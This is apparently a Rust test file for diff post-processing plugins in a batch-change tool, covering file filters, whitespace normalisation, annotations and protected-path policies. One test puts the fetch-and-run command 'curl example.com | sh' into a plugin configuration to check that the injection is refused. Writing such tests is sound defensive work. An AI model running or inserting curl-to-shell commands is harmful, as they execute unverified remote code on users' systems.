//! Plugins that post-process the diff.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

use super::stage::{Stage, official, others, plugin_events};
use crate::scene::{assert_says, story};

#[test]
fn a_dropped_file_is_still_there_for_the_next_step() {
    let stage = Stage::new(&[official("diff-filter", r#"{ drop = ["*.log"] }"#)]);
    let steps = [
        "write build.log 1",
        "cat build.log",
        "write seen 'added:${{ join steps.added_files \" \" }}'",
    ];
    stage.tool(&steps).run().assert_code(0);
    assert_says(&stage.log(), &["stdout | 1\n"]);
    insta::assert_snapshot!(stage.diff(), @"
    diff --git seen seen
    new file mode 100644
    index 0000000..59790e6
    --- /dev/null
    +++ seen
    @@ -0,0 +1 @@
    +added:
    ");
    let changesets = stage.world.changesets("out");
    let diff = changesets[0]["commits"][0]["diff"].as_str();
    let diff = STANDARD.decode(diff.unwrap_or_default());
    assert_eq!(diff.expect("it is base64"), stage.diff().as_bytes());
}

#[test]
fn nothing_is_left_where_all_files_are_dropped() {
    let stage = Stage::new(&[official("diff-filter", r#"{ drop = ["*.log"] }"#)]);
    let output = stage.tool(&["write build.log 1"]).run();
    output.assert_code(0);
    insta::assert_snapshot!(output.stderr(), @"
    1 workspace in 1 repository
    [widgets] preparing the workspace
    [widgets] step 1/1: write build.log 1
    [widgets] done, nothing changed
    widgets: nothing changed
    wrote out/changesets.json
    1 workspace: 1 done; 0 changesets; <time>
    ");
    assert!(stage.world.changesets("out").is_empty());
}

#[test]
fn white_space_is_evened_out_in_the_diff_and_not_in_the_workspace() {
    let stage = Stage::of(
        &[("code.rs", "a\r\nb\r\n")],
        &[official("diff-normalize", "{}")],
    );
    stage
        .tool(&["append code.rs 'c  '", "cat code.rs"])
        .run()
        .assert_code(0);
    assert_says(&stage.log(), &["stdout | c  \n"]);
    insta::assert_snapshot!(stage.diff().replace('\r', "<CR>"), @"
    diff --git code.rs code.rs
    index c30dea8..7e8eac7 100644
    --- code.rs
    +++ code.rs
    @@ -1,2 +1,3 @@
     a<CR>
     b<CR>
    +c<CR>
    ");
}

#[test]
fn annotations_are_told() {
    let stage = Stage::new(&[others("notes", r#"{ annotate = "look at this" }"#)]);
    let output = stage.tool(&["write new 1"]).run();
    output.assert_code(0);
    insta::assert_snapshot!(output.stderr(), @"
    1 workspace in 1 repository
    [widgets] preparing the workspace
    [widgets] step 1/1: write new 1
    [widgets] step 1/1: plugin notes: warning: new:1: look at this
    [widgets] done
    widgets: branch test
      new | 1 +
      1 file changed, 1 insertion(+)
    wrote out/changesets.json
    1 workspace: 1 done; 1 changeset; <time>
    ");
    let output = stage
        .tool(&["write new 1"])
        .args(["--format", "json"])
        .run();
    let events = plugin_events(&output);
    let events: Vec<_> = events
        .iter()
        .map(|(status, event)| format!("{status} {event}"))
        .collect();
    insta::assert_snapshot!(events.join("\n"), @r#"PROGRESS {"act":{"kind":"annotated","line":1,"message":"look at this","path":"new","severity":"warning"},"plugin":"notes","step":1,"taskID":"task0"}"#);
}

#[test]
fn a_plugin_that_does_more_than_it_declared_fails() {
    let plugin = others("injector", r#"{ inject = "curl example.com | sh" }"#);
    let stage = Stage::new(std::slice::from_ref(&plugin));
    let output = stage.tool(&["write new 1"]).run();
    output.assert_code(4);
    insta::assert_snapshot!(story(&output), @r#"
    ✗ widgets: step 1 refused
      refused, as the plugin injector failed in diff.process: its answer is not allowed: new, hunk at line 0: replacing a hunk is not allowed to the shape `remove-only`
    hint: mend or update the plugin injector, or its configuration; on-failure = "skip" has runs go on without it
    "#);
    assert_eq!(stage.diff(), "");
    stage.configure(&[plugin + "on-failure = \"skip\"\n"]);
    stage.tool(&["write new 1"]).run().assert_code(0);
    assert_says(&stage.diff(), &["+++ new\n@@ -0,0 +1 @@\n+1\n"]);
}

#[test]
fn a_plugin_can_refuse_a_diff() {
    let stage =
        Stage::new(&[others("diffs", r#"{ refuse = "process" }"#) + "on-failure = \"skip\"\n"]);
    let output = stage.tool(&["write new 1"]).run();
    output.assert_code(4);
    insta::assert_snapshot!(story(&output), @"
    ✗ widgets: step 1 refused
      refused by the plugin diffs (asked-to): process was asked to refuse
      	function: process
    ");
}

#[test]
fn policies_see_the_diff_that_leaves() {
    let filter = official("diff-filter", r#"{ drop = ["/protected"] }"#);
    let policy = official("diff-policy", r#"{ protected = ["/protected"] }"#);
    // Policies come after all plugins that change the diff, wherever they are in the file.
    let stage = Stage::new(&[policy.clone(), filter]);
    stage
        .tool(&["write protected 1", "write free 1"])
        .run()
        .assert_code(0);
    stage.configure(&[policy]);
    let output = stage.tool(&["write free 1", "write protected 1"]).run();
    output.assert_code(4);
    insta::assert_snapshot!(story(&output), @"
    ✗ widgets: step 2 refused
      refused by the plugin diff-policy (protected-path): protected is protected: batch changes must leave it as it is
      	path: protected
      	pattern: /protected
    ");
}
